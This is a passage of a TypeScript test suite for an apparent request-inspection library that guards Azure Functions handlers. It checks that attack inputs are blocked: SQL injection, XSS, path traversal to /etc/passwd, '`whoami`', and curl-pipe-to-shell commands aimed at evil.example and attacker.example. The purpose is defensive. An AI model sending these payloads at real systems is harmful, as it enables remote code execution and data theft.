    const { payload, metadata } = c.build(ATTACKS[0]!.payload);
    await handler(payload, context(c.trigger, metadata));
  }
  t.equal(calls, TRIGGERS.length);
  t.ok(lines.length >= TRIGGERS.length && lines.every((l) => l.action === 'monitor'));
});

t.test('non-HTTP: malformed and empty payloads never crash', async (t) => {
  let calls = 0;
  const handler = protect(async () => {
    calls++;
  }, { log: false });
  const payloads: unknown[] = [null, undefined, '', 0, [], {}, [null, undefined], Buffer.alloc(0), Buffer.from([0, 1, 2, 255, 254]), '{"unterminated": ', 'x'.repeat(5 * 1024 * 1024)];
  const triggers = ['queueTrigger', 'serviceBusTrigger', 'eventHubTrigger', 'blobTrigger', 'cosmosDBTrigger', 'eventGridTrigger', 'someFutureTrigger'];
  for (const type of triggers) {
    for (const p of payloads) await handler(p, context({ type, name: 'x' }, type === 'blobTrigger' ? { blobTrigger: 'uploads/x', name: 'x' } : undefined));
    await handler({ a: 1 }, context({ type, name: 'x' }, { applicationProperties: null, propertiesArray: 'nope', metadata: 5 }));
  }
  t.equal(calls, triggers.length * (payloads.length + 1), 'every invocation reached the handler');
  // A binary blob (an image) is not inspected as text; its name still is.
  const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]), Buffer.from("' OR '1'='1 <script>")]);
  await handler(png, context({ type: 'blobTrigger', name: 'blob' }, blobMeta('photo.png')));
  await t.rejects(handler(png, context({ type: 'blobTrigger', name: 'blob' }, blobMeta('../../../../etc/passwd'))), RequestBlockedError);
});

t.test('timer, warmup and Durable triggers are not inspected', async (t) => {
  const { lines, log } = logs();
  let calls = 0;
  const handler = protect(async () => {
    calls++;
  }, { log });
  await handler({ schedule: { adjustForDST: true }, isPastDue: false, note: "1' OR '1'='1" }, context({ type: 'timerTrigger', name: 'timer', schedule: '0 */5 * * * *' }));
  await handler({}, context({ type: 'warmupTrigger', name: 'warmup' }));
  await handler({ input: '<script>alert(1)</script>' }, context({ type: 'activityTrigger', name: 'input' }));
  t.equal(calls, 3);
  t.same(lines, []);
});

t.test('without trigger options the request shape decides (duck typing)', async (t) => {
  const handler = protect(async () => ({ status: 200 }), { log: false });
  const bare = new InvocationContext({ invocationId: 'inv-1', logHandler: () => undefined });
  const res = (await handler(new HttpRequest({ method: 'GET', url: `${BASE}/api/x?q=${encodeURIComponent('<script>alert(1)</script>')}` }), bare)) as HttpResponseInit;
  t.equal(res.status, 403, 'an HttpRequest is HTTP');
  await t.rejects(handler({ q: '<script>alert(1)</script>' }, bare), RequestBlockedError, 'anything else is an event');
  const lookalike = {
    method: 'GET',
    url: `${BASE}/api/x?q=${encodeURIComponent("1' OR '1'='1")}`,
    headers: new Headers(),
    body: null,
    clone() {
      return this as unknown as { text(): Promise<string> };
    },
  };
  t.equal(((await handler(lookalike as Any, bare)) as HttpResponseInit).status, 403, 'a request-shaped object is HTTP');
});

t.test('app-wide hook: replaces functionHandler with a protected one', async (t) => {
  const { lines, log } = logs();
  const hook = createPreInvocationHook({ log });
  let calls = 0;
  const user = async (request: HttpRequest) => {
    calls++;
    return { status: 200, body: await request.text() };
  };
  const run = async (req: HttpRequest, ctx: InvocationContext, fn: Any = user) => {
    const pre = new PreInvocationContext({ inputs: [req], invocationContext: ctx, functionCallback: fn });
    await hook(pre);
    return { res: (await pre.functionHandler(pre.inputs[0], ctx)) as HttpResponseInit, handler: pre.functionHandler };
  };
  const attack = new HttpRequest({ method: 'POST', url: `${BASE}/api/orders`, headers: { 'content-type': 'application/json' }, body: { string: '{"q":"$(curl http://evil.example/x.sh | sh)"}' } });
  const blocked = await run(attack, httpContext());
  t.equal(blocked.res.status, 403);
  t.not(blocked.handler, user, 'handler replaced');
  const ok = await run(new HttpRequest({ method: 'POST', url: `${BASE}/api/orders`, body: { string: 'Tom & Jerry' } }), httpContext());
  t.same(ok.res, { status: 200, body: 'Tom & Jerry' }, 'clean requests reach the handler with a readable body');
  t.equal(ok.handler, blocked.handler, 'the wrapper is built once per handler');
  t.equal(calls, 1);

  // Non-HTTP through the hook.
  const pre = new PreInvocationContext({ inputs: [{ note: '<img src=x onerror=alert(1)>' }], invocationContext: context({ type: 'queueTrigger', name: 'item' }), functionCallback: async () => 'x' });
  await hook(pre);
  await t.rejects(Promise.resolve(pre.functionHandler(pre.inputs[0], pre.invocationContext)), RequestBlockedError);

  // Already protected: not wrapped twice (one security event, not two).
  const once = protect(user, { log });
  const before = lines.length;
  const r = await run(new HttpRequest({ method: 'GET', url: `${BASE}/api/orders?q=${encodeURIComponent('`whoami`')}` }), httpContext(), once);
  t.equal(r.handler, once, 'left as is');
  t.equal(r.res.status, 403);
  t.equal(lines.length - before, 1);

  // Timer triggers keep their handler.
  const timer = async () => undefined;
  const tp = new PreInvocationContext({ inputs: [{}], invocationContext: context({ type: 'timerTrigger', name: 't' }), functionCallback: timer });
  await hook(tp);
  t.equal(tp.functionHandler, timer);

  // mode off: the hook does nothing.
  const off = createPreInvocationHook({ mode: 'off' });
  const op = new PreInvocationContext({ inputs: [attack], invocationContext: httpContext(), functionCallback: user });
  await off(op);
  t.equal(op.functionHandler, user);
});

t.test('protectApp registers the hook (a no-op registration outside the Functions host)', async (t) => {
  const warn = console.warn;
  const warnings: string[] = [];
  console.warn = (...a: unknown[]) => void warnings.push(a.join(' '));
  try {
    const d = protectApp({ log: false });
    t.type(d.dispose, 'function');
  } finally {
    console.warn = warn;
  }
  t.match(warnings.join('\n'), /preInvocation/);
  t.throws(() => protectApp({ mode: 'nope' as Any }), RaspConfigError, 'options are checked at registration');
});

t.test('options and handler are checked at cold start; mode off returns the handler', async (t) => {
  t.throws(() => protect(null as Any), { code: 'RASP_ERR_HANDLER' });
  t.throws(() => protect(async () => undefined, { mdoe: 'block' } as Any), { code: 'RASP_ERR_OPTIONS' });
  const h = async () => undefined;
  t.equal(protect(h, { mode: 'off' }), h);
});

t.test('types: protect() fits app.http and app.storageQueue without annotations', async (t) => {
  const warn = console.warn;
  console.warn = () => undefined;
  try {
    // Compile-time check as much as a run: `request` and `context` are inferred from app.http.
    app.http('typed', {
      methods: ['POST'],
      handler: protect(async (request, context) => {
        const body = (await request.json()) as { qty?: number };
        context.log('qty', body.qty);
        return { status: 200, jsonBody: { qty: body.qty ?? 0 } };
      }),
    });
    app.storageQueue('typedQueue', { queueName: 'orders', connection: 'Storage', handler: protect(async (item, context) => void context.log(item)) });
  } finally {
    console.warn = warn;
  }
  t.pass();
});

t.test('HTTP: a compressed body is inspected inflated and reaches the handler as sent', async (t) => {
  const { gzipSync, deflateSync, gunzipSync } = await import('node:zlib');
  const { lines, log } = logs();
  let got: Uint8Array | undefined;
  const handler = protect(async (request: HttpRequest) => {
    got = new Uint8Array(await request.arrayBuffer());
    return { status: 200 };
  }, { log });
  const attack = Buffer.from(JSON.stringify({ note: '; curl http://attacker.example/x | sh' }));
  for (const [coding, bytes] of [['gzip', gzipSync(attack)], ['deflate', deflateSync(attack)]] as const) {
    const req = new HttpRequest({ method: 'POST', url: `${BASE}/api/orders`, headers: { 'content-type': 'application/json', 'content-encoding': coding }, body: { bytes } });
    const res = (await handler(req, httpContext())) as HttpResponseInit;
    t.equal(res.status, 403, coding);
    t.equal(lines.at(-1)?.where, 'body.note');
  }
  t.equal(got, undefined, 'the handler never ran');
  const order = Buffer.from(JSON.stringify({ sku: 'TSHIRT-42', qty: 2 }));
  const gz = gzipSync(order);
  const ok = (await handler(
    new HttpRequest({ method: 'POST', url: `${BASE}/api/orders`, headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' }, body: { bytes: gz } }),
    httpContext(),
  )) as HttpResponseInit;
  t.equal(ok.status, 200);
  t.same(Buffer.from(got!), gz, 'the handler reads the bytes as sent');
  t.same(gunzipSync(got!), order);
});

t.test('HTTP: client IP and URL parts read in the one header pass (real requests and stand-ins)', async (t) => {
  const events: SecurityEvent[] = [];
  const handler = protect(async () => ({ status: 200 }), { log: false, mode: 'monitor', onSecurityEvent: (e) => events.push(e) });
  const attack = encodeURIComponent("1' OR '1'='1");
  // Real HttpRequest: client-ip wins over x-forwarded-for; the path and query come from its serialized
  // URL (a fragment is not part of either), and the host's query map is inspected besides.
  const real = new HttpRequest({
    method: 'GET',
    url: `${BASE}/api/orders/a%2Fb/42?q=${attack}&page=2#frag?x=<script>`,
    headers: { 'Client-IP': '203.0.113.7:52110', 'X-Forwarded-For': '198.51.100.1, 198.51.100.2' },
    query: { page: '2', sort: '<script>alert(1)</script>' },
  });
  await handler(real, httpContext());
  t.equal(events[0]?.sourceIp, '203.0.113.7');
  const paths = events[0]?.findings.map((f) => f.path) ?? [];
  t.ok(paths.includes('query.q'), 'the URL query string');
  t.ok(paths.includes('query.sort'), "the host's query map");
  t.notOk(paths.some((p) => p.startsWith('path')), 'nothing from the fragment');
  // The same parts new URL() gives, for a URL with encodings and dot segments undici normalized.
  const seen: string[] = [];
  const parts = protect(async () => ({ status: 200 }), { log: false, mode: 'monitor', onSecurityEvent: (e) => seen.push(...e.findings.map((f) => `${f.path}=${f.snippet ?? ''}`)) });
  const dotted = new HttpRequest({ method: 'GET', url: `${BASE}/api/x/./y/../..%2F..%2Fetc%2Fpasswd?` });
  t.equal(new URL(dotted.url).pathname, '/api/x/..%2F..%2Fetc%2Fpasswd');
  await parts(dotted, httpContext());
  t.ok(seen.includes('path=/api/x/..%2F..%2Fetc%2Fpasswd'), `path as new URL() reads it: ${seen.join(' ')}`);
  t.ok(seen.includes('pathSegments[2]=../../etc/passwd'), 'and its decoded segment');

  // A stand-in (not an HttpRequest): mixed-case names and a name listed twice, joined as Headers#get joins them.
  events.length = 0;
  const entries: Array<[string, string]> = [
    ['X-Forwarded-For', '10.0.0.1'],
    ['x-forwarded-for', '192.0.2.9:443'],
    ['X-Note', '<script>alert(1)</script>'],
  ];
  const standIn = {
    method: 'GET',
    url: `${BASE}/api/orders`,
    headers: {
      get: (name: string) => entries.filter(([k]) => k.toLowerCase() === name).map(([, v]) => v).join(', ') || null,
      forEach: (cb: (value: string, name: string) => void) => entries.forEach(([k, v]) => cb(v, k)),
    },
    clone: () => ({ text: async () => '', arrayBuffer: async () => new ArrayBuffer(0) }),
    body: null,
  };
  await handler(standIn as Any, httpContext());
  t.equal(events[0]?.sourceIp, '192.0.2.9', 'rightmost x-forwarded-for entry of the joined values, port stripped');
  t.equal(events[0]?.findings[0]?.path, 'headers.x-note');
});

t.test('HTTP: the handler reads the same text the inspection decoded, once', async (t) => {
  const body = JSON.stringify({ note: 'caf\u00e9 \ud83d\ude00', items: [1, 2] });
  let text: string | undefined;
  let second: unknown;
  const handler = protect(async (request: HttpRequest) => {
    text = await request.text();
    second = await request.json().catch((e: unknown) => e);
    return { status: 200 };
  }, { log: false });
  const req = new HttpRequest({ method: 'POST', url: `${BASE}/api/orders`, headers: { 'content-type': 'application/json' }, body: { bytes: Buffer.from('\ufeff' + body, 'utf8') } });
  t.equal(((await handler(req, httpContext())) as HttpResponseInit).status, 200);
  t.equal(text, body, 'UTF-8 decoded, byte order mark dropped, as the platform decodes it');
  t.type(second, TypeError, 'a second read still rejects');
  let parsed: unknown;
  const json = protect(async (request: HttpRequest) => {
    parsed = await request.json();
    return { status: 200 };
  }, { log: false });
  await json(new HttpRequest({ method: 'POST', url: `${BASE}/api/orders`, headers: { 'content-type': 'application/json' }, body: { string: body } }), httpContext());
  t.same(parsed, JSON.parse(body));
});

t.test('HTTP: the body is read from its stream to the end, every chunk, as arrayBuffer() reads it', async (t) => {
  const enc = new TextEncoder();
  /** A stream-mode request (the worker's createStreamRequest shape): an undici Request over a stream of `chunks`. */
  const streamed = (chunks: Array<Uint8Array | string>, contentType = 'application/json'): HttpRequest => {
    let i = 0;
    const body = new ReadableStream<unknown>({
      pull(c) {
        if (i < chunks.length) c.enqueue(chunks[i++]);
        else c.close();
      },
    });
    const nativeRequest = new Request(`${BASE}/api/orders`, { method: 'POST', headers: { 'content-type': contentType }, body: body as ReadableStream, duplex: 'half' } as RequestInit);
    return new HttpRequest({ nativeRequest, params: {} } as Any);
  };
  // The attack sits in the last of four chunks: a read that stopped early would let it through.
  const attack = JSON.stringify({ sku: 'TSHIRT-42', qty: 2, note: "1' OR '1'='1" });
  const cut = (s: string): Uint8Array[] => [0, 7, 19, 30].map((at, k, a) => enc.encode(s.slice(at, a[k + 1])));
  let got: string | undefined;
  const handler = protect(async (request: HttpRequest) => {
    got = await request.text();
    return { status: 200 };
  }, { log: false });
  t.equal(((await handler(streamed(cut(attack)), httpContext())) as HttpResponseInit).status, 403, 'an attack in the last chunk is found');
  t.equal(got, undefined);
  const order = JSON.stringify({ sku: 'TSHIRT-42', qty: 2, note: 'caf\u00e9 \ud83d\ude00 gift wrap' });
  t.equal(((await handler(streamed(cut(order)), httpContext())) as HttpResponseInit).status, 200);
  t.equal(got, order, 'the handler reads every chunk, joined in order');
  const bytes = Uint8Array.from({ length: 300 }, (_, k) => (k * 37) % 256);
  let raw: Uint8Array | undefined;
  const bin = protect(async (request: HttpRequest) => {
    raw = new Uint8Array(await request.arrayBuffer());
    return { status: 200 };
  }, { log: false });
  await bin(streamed([bytes.slice(0, 100), bytes.slice(100, 101), bytes.slice(101)], 'application/octet-stream'), httpContext());
  t.same([...raw!], [...bytes], 'binary chunks byte for byte');

  // The kept bytes are the request's own: a caller's stream that changes a chunk it enqueued
  // afterwards does not change what the handler reads.
  const chunk = enc.encode('{"sku":"TSHIRT-42"}');
  let late: string | undefined;
  const mutating = protect(async (request: HttpRequest) => {
    chunk.fill(0x20);
    late = Buffer.from(await request.arrayBuffer()).toString('utf8');
    return { status: 200 };
  }, { log: false });
  await mutating(streamed([chunk]), httpContext());
  t.equal(late, '{"sku":"TSHIRT-42"}', 'the bytes as they were read');

  // What arrayBuffer() rejects with, the read rejects with: a used or locked body, a failing stream,
  // a chunk that is not bytes.
  const used = new HttpRequest({ method: 'POST', url: `${BASE}/api/orders`, body: { string: 'hi' } });
  await used.text();
  await t.rejects(readBodyKeepReadable(used), { name: 'TypeError', message: /Body is unusable/ }, 'a used body');
  const locked = new HttpRequest({ method: 'POST', url: `${BASE}/api/orders`, body: { string: 'hi' } });
  (locked.body as ReadableStream).getReader();
  await t.rejects(readBodyKeepReadable(locked), { name: 'TypeError', message: /Body is unusable/ }, 'a locked body');
  const failure = new Error('socket hang up');
  const failing = new HttpRequest({
    nativeRequest: new Request(`${BASE}/api/orders`, {
      method: 'POST',
      body: new ReadableStream({ pull: (c) => c.error(failure) }),
      duplex: 'half',
    } as RequestInit),
    params: {},
  } as Any);
  await t.rejects(readBodyKeepReadable(failing), failure, "the stream's own error");
  await t.rejects(readBodyKeepReadable(streamed(['not bytes'])), { name: 'TypeError', message: 'Received non-Uint8Array chunk' }, 'a chunk that is not bytes');

  // A subclass may answer arrayBuffer() itself: then that is what is inspected (and kept).
  class Decrypting extends HttpRequest {}
  Object.defineProperty(Decrypting.prototype, 'arrayBuffer', {
    value: async () => enc.encode(JSON.stringify({ note: '<script>alert(1)</script>' })).buffer,
  });
  const sub = new Decrypting({ method: 'POST', url: `${BASE}/api/orders`, headers: { 'content-type': 'application/json' }, body: { string: '{"note":"fine"}' } });
  t.equal(((await handler(sub, httpContext())) as HttpResponseInit).status, 403, "the subclass's arrayBuffer() is what is inspected");
});

t.test('every path answers with a promise: sync and async handlers, throws, blocks, failures, triggers', async (t) => {
  // The wrapper is not an async function (one promise per invocation fewer): whatever the handler
  // does, the caller still gets a promise, never a synchronous throw, and the handler's own error.
  const post = (body: string) => new HttpRequest({ method: 'POST', url: `${BASE}/api/orders`, headers: { 'content-type': 'application/json' }, body: { string: body } });
  const get = (q = 'shoes') => new HttpRequest({ method: 'GET', url: `${BASE}/api/orders?q=${encodeURIComponent(q)}` });
  const boom = new Error('handler failed');
  const syncValue = protect((() => ({ status: 201 })) as Any, { log: false });
  const syncThrow = protect((() => {
    throw boom;
  }) as Any, { log: false });
  const asyncThrow = protect(async () => {
    throw boom;
  }, { log: false });
  const results: Array<[string, unknown]> = [
    ['sync value, body', syncValue(post('{"sku":"TSHIRT-42"}'), httpContext())],
    ['sync value, no body', syncValue(get(), httpContext())],
    ['sync throw, body', syncThrow(post('{"sku":"TSHIRT-42"}'), httpContext())],
    ['sync throw, no body', syncThrow(get(), httpContext())],
    ['async throw', asyncThrow(post('{"sku":"TSHIRT-42"}'), httpContext())],
    ['blocked, body', syncValue(post(JSON.stringify({ note: "1' OR '1'='1" })), httpContext())],
    ['blocked, no body', syncValue(get("1' OR '1'='1"), httpContext())],
  ];
  for (const [name, r] of results) t.ok(r instanceof Promise, `${name}: a promise`);
  t.equal(((await results[0]![1]) as HttpResponseInit).status, 201);
  t.equal(((await results[1]![1]) as HttpResponseInit).status, 201);
  await t.rejects(results[2]![1] as Promise<unknown>, boom, 'the handler\'s own error');
  await t.rejects(results[3]![1] as Promise<unknown>, boom);
  await t.rejects(results[4]![1] as Promise<unknown>, boom);
  t.equal(((await results[5]![1]) as HttpResponseInit).status, 403);
  t.equal(((await results[6]![1]) as HttpResponseInit).status, 403);

  // A body that cannot be read: the library's failure, fail open with a sync handler too.
  const used = post('{"sku":"TSHIRT-42"}');
  await used.text();
  const failed = syncValue(used, httpContext());
  t.ok(failed instanceof Promise, 'unreadable body: a promise');
  t.equal(((await failed) as HttpResponseInit).status, 201, 'fail open');

  // Triggers: a sync handler's value and throw, and a blocked message, as promises.
  const queue = () => context({ type: 'queueTrigger', name: 'item', queueName: 'orders', connection: 'AzureWebJobsStorage' });
  const qValue = protect((() => 'done') as Any, { log: false })({ sku: 'TSHIRT-42' }, queue());
  const qThrow = protect((() => {
    throw boom;
  }) as Any, { log: false })({ sku: 'TSHIRT-42' }, queue());
  const qBlocked = protect((() => 'done') as Any, { log: false })({ note: "1' OR '1'='1" }, queue());
  for (const r of [qValue, qThrow, qBlocked]) t.ok(r instanceof Promise, 'trigger: a promise');
  t.equal(await qValue, 'done');
  await t.rejects(qThrow, boom);
  await t.rejects(qBlocked, RequestBlockedError);
});

t.test('HTTP: a request that fails to read after its body read started leaves no promise unhandled', async (t) => {
  // A stand-in whose `params` getter throws and whose body read fails: the body is read last, so a
  // failure before it never leaves the read's rejection without a handler (an unhandled rejection
  // ends a Node process).
  const unhandled: unknown[] = [];
  const onUnhandled = (err: unknown) => unhandled.push(err);
  process.on('unhandledRejection', onUnhandled);
  let calls = 0;
  const wrapped = protect(async () => {
    calls++;
    return { status: 200 };
  }, { log: false });
  const standIn = {
    method: 'POST',
    url: `${BASE}/api/orders`,
    headers: new Headers({ 'content-type': 'application/json' }),
    body: new ReadableStream(),
    get params(): Record<string, string> {
      throw new Error('params getter');
    },
    arrayBuffer: () => Promise.reject(new Error('socket hang up')),
    clone() {
      return this;
    },
  };
  t.equal(((await wrapped(standIn as Any, httpContext())) as HttpResponseInit).status, 200, 'fail open');
  t.equal(calls, 1);
  await new Promise((r) => setTimeout(r, 20));
  process.off('unhandledRejection', onUnhandled);
  t.same(unhandled, [], 'no unhandled rejection');
});
